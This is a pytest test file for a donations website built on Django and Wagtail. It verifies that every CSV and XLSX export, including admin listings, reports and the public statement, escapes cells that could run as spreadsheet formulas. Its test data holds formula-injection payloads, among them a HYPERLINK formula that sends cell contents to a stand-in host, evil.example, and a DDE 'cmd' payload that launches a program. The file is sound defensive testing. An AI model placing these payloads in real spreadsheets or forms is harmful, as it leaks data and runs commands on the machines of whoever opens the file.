"""No CSV or XLSX the project writes holds a cell a spreadsheet program could run as a formula.

First sitewide.spreadsheets.safe_cell on hand-written cases. Then hostile text (a donor's name
typed as "=HYPERLINK(…)" on the public donate form, a pledge's event, a payer's name, a bank
line's memo…) is put in through the real services, and every export is fetched and parsed with
the csv module or openpyxl, independently of our writers: no cell may start like a formula,
and the hostile text must still be there behind its quote (so the check is not vacuous).

The admin's listing exports are found, not listed: every admin URL whose view is Wagtail's
SpreadsheetExportMixin with a ``list_export`` (our viewsets and Wagtail's own reports, such as
the site history) is fetched in both formats, so a new export is checked as soon as it exists.
"""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets as registered_viewsets
from wagtail.admin.viewsets.base import ViewSet

from donations.models import Channel, Disclosure, Donor, Pledge, Receipt
from donations.services import record_pledge, record_receipt
from giving.models import OnlineGift
from reconciliation.models import StatementLine
from reconciliation.services import import_statement
from sitewide.spreadsheets import (
    SafeWriter,
    neutralise_wagtail_exports,
    safe_cell,
    safe_row,
    starts_like_formula,
)
from tests.donations.conftest import make_bank_account, make_donor
from tests.giving.conftest import ipn_params, ipn_url
from tests.sitewide.conftest import make_user
from tests.stories.conftest import make_story

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&D2&E2,"Xem chi tiết")'
HOSTILE = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
]
# Survive the donate form and Donor.save (which trim and collapse whitespace) unchanged.
TYPED_NAMES = [text for text in HOSTILE if text == " ".join(text.split())]

# The test's own rule, written independently of sitewide.spreadsheets.
FORMULA_START = re.compile(r"^[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]")


def looks_like_formula(cell):
    return isinstance(cell, str) and bool(FORMULA_START.match(cell))


# --- the function ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+84912345678", "'+84912345678"),
        ("-5000", "'-5000"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\tabc", "'\tabc"),
        ("\r=1+1", "'\r=1+1"),
        ("\rabc", "'\rabc"),
        ("\n=1+1", "'\n=1+1"),
        (" =1+1", "' =1+1"),
        ("\u00a0\u3000+1", "'\u00a0\u3000+1"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff@x", "'\ufeff@x"),
        ("\x01=1", "'\x01=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("﹦1", "'﹦1"),
        ("  ＝1", "'  ＝1"),
        # Unchanged: text that cannot start a formula, and everything that is not text.
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("Đoàn Văn Đức", "Đoàn Văn Đức"),
        ("1+1", "1+1"),
        ("a=1", "a=1"),
        ("(=1)", "(=1)"),
        ("'=1+1", "'=1+1"),
        ("  Lê Thị Thu  ", "  Lê Thị Thu  "),
        ("−5", "−5"),  # U+2212 MINUS SIGN is not read as a formula
        ("", ""),
        ("   ", "   "),
        (-5000, -5000),
        (0, 0),
        (Decimal("-12.5"), Decimal("-12.5")),
        (-1.5, -1.5),
        (None, None),
        (True, True),
        (datetime.date(2026, 10, 17), datetime.date(2026, 10, 17)),
    ],
)
def test_safe_cell(value, expected):
    result = safe_cell(value)
    assert result == expected
    assert type(result) is type(expected)
    assert not looks_like_formula(result)


def test_the_tests_rule_catches_every_hostile_value_and_the_function_agrees():
    """The control for the export checks below."""
    for text in HOSTILE:
        assert looks_like_formula(text), text
        assert starts_like_formula(text), text
        assert not looks_like_formula(safe_cell(text)), text
        assert safe_cell(safe_cell(text)) == safe_cell(text)


def test_safe_row_and_the_csv_writer():
    assert safe_row(["=1", 5, None, "An"]) == ["'=1", 5, None, "An"]
    buffer = io.StringIO()
    writer = SafeWriter(csv.writer(buffer))
    writer.writerow(["-2+3", -2])
    writer.writerows([["@A1", "An"], [Decimal("-7"), "+1"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'-2+3", "-2"], ["'@A1", "An"], ["-7", "'+1"]]


def test_wagtails_exports_are_neutralised_once():
    method = SpreadsheetExportMixin.preprocess_field_value
    assert method.neutralises_formulas
    neutralise_wagtail_exports()  # called again (e.g. a second ready()): not wrapped twice
    assert SpreadsheetExportMixin.preprocess_field_value is method


def test_every_writer_of_ours_uses_the_function():
    """A module that writes CSV or XLSX imports sitewide.spreadsheets (bench/ excluded)."""
    base = Path(settings.BASE_DIR)
    writes = re.compile(
        r"csv\.(writer|DictWriter)\(|\bWorkbook\(|SpreadsheetExportMixin|<sheetData"
    )
    apps = ["sitewide", "stories", "campaigns", "donations", "giving", "reconciliation"]
    missing = []
    for app in apps:
        for path in (base / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "spreadsheets.py":
                continue
            text = path.read_text(encoding="utf-8")
            if writes.search(text) and "sitewide.spreadsheets" not in text:
                missing.append(str(path.relative_to(base)))
    assert missing == []


# --- every export, fed hostile values ----------------------------------------------------


def admin_export_urls():
    """(url name, path, view class) of every admin listing that offers a CSV/XLSX export."""
    reverse("wagtailadmin_home")  # loads the admin URLconf, which registers the viewsets

    def walk(patterns, prefix="", namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = namespace
                if pattern.namespace:
                    inner = f"{namespace}:{pattern.namespace}" if namespace else pattern.namespace
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
            elif isinstance(pattern, URLPattern):
                name = f"{namespace}:{pattern.name}" if namespace else pattern.name
                yield prefix + str(pattern.pattern), name, pattern

    found = []
    for route, name, pattern in walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        if not initkwargs.get("list_export", view_class.list_export):
            continue
        assert not pattern.pattern.regex.groupindex, f"{name} needs arguments: fill them in"
        found.append((name, "/" + route, view_class))
    return found


def read_csv(response):
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("text/csv")
    content = response.getvalue() if not response.streaming else b"".join(response)
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def read_xlsx(content):
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


def xlsx_of(response):
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return read_xlsx(b"".join(response.streaming_content))


def quoted(cells, text):
    """Whether text is in one of the cells, behind its quote (XML reads "\\r" back as "\\n")."""
    wanted = {"'" + text, "'" + text.replace("\r", "\n")}
    return any(cell in wanted for cell in cells if isinstance(cell, str))


def stored(model, *fields):
    """The hostile values as the services stored them (some trim whitespace), each checked
    to be hostile still, so that finding them behind a quote in a file means something."""
    values = set()
    for field in fields:
        values |= set(model.objects.values_list(field, flat=True))
    values -= {"", None}
    assert values and all(looks_like_formula(value) for value in values), values
    return sorted(values)


def assert_inert(label, cells, *, hostile=()):
    assert cells, f"{label}: empty file"
    bad = [cell for cell in cells if looks_like_formula(cell)]
    assert bad == [], f"{label}: cells that start like a formula: {bad}"
    for text in hostile:
        assert quoted(cells, text), f"{label}: {text!r} is not in the file behind a quote"


@pytest.fixture
def hostile_world(client, giving_campaign, fund, front_staff, vnpay_config, story_index):
    """Hostile text in donors, gifts, pledges, receipts, statement lines, the audit log and a
    page, put in the way each gets there for real."""
    campaign = giving_campaign
    # The attack of the issue: the public donate form, "anonymous", the name as a formula.
    for number, name in enumerate(TYPED_NAMES):
        data = {
            "preset": "200000",
            "other_amount": "",
            "disclosure": Disclosure.ANONYMOUS,
            "donor_name": name,
            "phone": f"09120000{number:02d}",
            "email": f"an{number}@example.vn",
            "message": name,
            "method": "vnpay",
            "website": "",
        }
        if name == HYPERLINK:  # one who asks to be named, so the public statement shows it
            data.update(disclosure=Disclosure.FULL_NAME, consent="on")
        response = client.post(
            f"/ung-ho/gui/{campaign.pk}/", data, REMOTE_ADDR=f"203.0.113.{number + 1}"
        )
        assert response.status_code == 302, response.content.decode()[:2000]
    for gift in OnlineGift.objects.filter(campaign=campaign):
        assert client.get(ipn_url(ipn_params(gift, vnpay_config))).status_code == 200
    assert set(Donor.objects.values_list("name", flat=True)) == set(TYPED_NAMES)

    # Staff records: pledges (event, donor's address), overdue ones for the reminder list,
    # and receipts by hand with the payer's name as written on the paper.
    today = timezone.localdate()
    for number, text in enumerate(HOSTILE):
        donor = make_donor(text, address=text, organisation=text)
        record_pledge(
            donor=donor,
            campaign=campaign,
            amount=1_000_000 + number,
            pledged_on=today - datetime.timedelta(days=40),
            due_on=today - datetime.timedelta(days=10),
            event=text,
            user=front_staff,
        )
        record_receipt(
            channel=Channel.CASH,
            amount=100_000 + number,
            received_at=timezone.now() - datetime.timedelta(hours=1),
            campaign=campaign,
            payer_name=text,
            receipt_book_number=f"Q7-{number}",
            user=front_staff,
        )

    # A bank statement whose memo and counterpart name are hostile (VietinBank's layout).
    account = make_bank_account(
        fund, number="113000123456", bank_name="VietinBank", bank_bin="970415"
    )
    rows = [
        ["NGÂN HÀNG TMCP CÔNG THƯƠNG VIỆT NAM - VIETINBANK"],
        ["LỊCH SỬ GIAO DỊCH TÀI KHOẢN"],
        ["Tài khoản: 113000123456", "Từ ngày: 09/09/2024", "Đến ngày: 15/09/2024"],
        ["STT", "Ngày giao dịch", "Mô tả giao dịch", "Ghi nợ", "Ghi có", "Số dư", "Tên đối ứng",
         "Số TK đối ứng"],
    ]  # fmt: skip
    for number, text in enumerate(HOSTILE, start=1):
        rows.append(
            [str(number), f"13/09/2024 10:{number:02d}:00", text, "", "300.000",
             f"{number * 300}.000", text, f"04510005678{number:02d}"]
        )  # fmt: skip
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\r\n").writerows(rows)
    import_statement(
        account=account,
        file_bytes=buffer.getvalue().encode("utf-8"),
        filename="sao-ke.csv",
        user=front_staff,
    )
    assert StatementLine.objects.count() == len(HOSTILE)

    # A page an editor titled as a formula, locked (Wagtail's locked pages report).
    superuser = make_user("quan-tri", is_superuser=True)
    story = make_story(story_index, title=HYPERLINK, slug="cong-thuc")
    story.locked, story.locked_by, story.locked_at = True, superuser, timezone.now()
    story.save()
    return {"campaign": campaign, "superuser": superuser}


def test_every_export_is_inert(client, hostile_world, front_staff):
    campaign, superuser = hostile_world["campaign"], hostile_world["superuser"]

    # A donor added in the admin: the site history's label is their name.
    client.force_login(front_staff)
    response = client.post(
        reverse("donor:add"),
        {"kind": "individual", "public_display": Disclosure.ANONYMOUS, "name": "@SUM(A1)"},
    )
    assert response.status_code == 302, response.content.decode()[:3000]

    exports = admin_export_urls()
    names = {name for name, _path, _view in exports}
    assert {"donor:index", "pledge:index", "wagtailadmin_reports:site_history"} <= names
    namespaces = {name.split(":")[0] for name in names}
    for viewset in registered_viewsets.viewsets:  # the discovery misses no viewset's export
        if getattr(viewset, "list_export", ViewSet.UNDEFINED) not in (ViewSet.UNDEFINED, []):
            assert viewset.url_namespace in namespaces, viewset

    fetched = {}
    for name, path, view_class in exports:
        ours = not view_class.__module__.startswith("wagtail.")
        client.force_login(front_staff if ours else superuser)
        cells = read_csv(client.get(path, {"export": "csv"}))
        assert_inert(f"{name} (csv)", cells)
        fetched[f"{name} csv"] = cells
        cells = xlsx_of(client.get(path, {"export": "xlsx"}))
        assert_inert(f"{name} (xlsx)", cells)
        fetched[f"{name} xlsx"] = cells

    donors = stored(Donor, "name", "address")
    pledges = stored(Pledge, "event", "donor__name")
    for export in ("csv", "xlsx"):
        assert_inert(f"donors {export}", fetched[f"donor:index {export}"], hostile=donors)
        assert_inert(f"pledges {export}", fetched[f"pledge:index {export}"], hostile=pledges)
        history = fetched[f"wagtailadmin_reports:site_history {export}"]
        assert_inert(f"site history {export}", history, hostile=["@SUM(A1)"])
        locked = fetched[f"wagtailadmin_reports:locked_pages {export}"]
        assert_inert(f"locked pages {export}", locked, hostile=[HYPERLINK])

    # Money stays numeric: the pledges' amounts are numbers in the XLSX.
    amounts = {1_000_000 + number for number in range(len(HOSTILE))}
    assert amounts <= set(fetched["pledge:index xlsx"])

    client.force_login(front_staff)
    report = xlsx_of(client.get(reverse("ledger:campaign_report", args=[campaign.pk])))
    receipts = stored(Receipt, "payer_name", "donor__name")
    assert_inert("campaign report", report, hostile=[*receipts, *pledges])
    assert {100_000 + number for number in range(len(HOSTILE))} <= set(report)

    reminders = xlsx_of(client.get(reverse("pledge:reminders"), {"format": "xlsx"}))
    assert_inert("reminder list", reminders, hostile=pledges)
    assert Pledge.objects.overdue().count() == len(HOSTILE)

    client.logout()
    public = read_csv(client.get(f"/ung-ho/{campaign.slug}/sao-ke.csv"))
    assert_inert("public statement", public, hostile=[HYPERLINK])

    # Each hostile value, exactly as typed (tab and carriage return too), is in some file.
    everything = [*report, *reminders, *public]
    for cells in fetched.values():
        everything.extend(cells)
    for text in HOSTILE:
        assert quoted(everything, text), text


def test_the_report_command_is_inert(hostile_world, tmp_path):
    output = tmp_path / "report.xlsx"
    call_command("export_campaign_report", hostile_world["campaign"].slug, output=str(output))
    cells = read_xlsx(output.read_bytes())
    hostile = [*stored(Receipt, "payer_name", "donor__name"), *stored(Pledge, "donor__name")]
    assert_inert("export_campaign_report", cells, hostile=hostile)


def test_both_xlsx_paths_are_inert(tmp_path):
    from donations.reports.workbook import Sheet, write_workbook

    for fast in (True, False):
        output = tmp_path / f"fast-{fast}.xlsx"
        rows = [[text, -5, "An"] for text in [*HOSTILE, "\x01=1+1"]]
        write_workbook(output, [Sheet("S", ["=heading", "b", "c"], rows)], fast=fast)
        cells = read_xlsx(output.read_bytes())
        assert_inert(f"fast={fast}", cells, hostile=[*HOSTILE, "=1+1", "=heading"])
        assert cells.count(-5) == len(HOSTILE) + 1
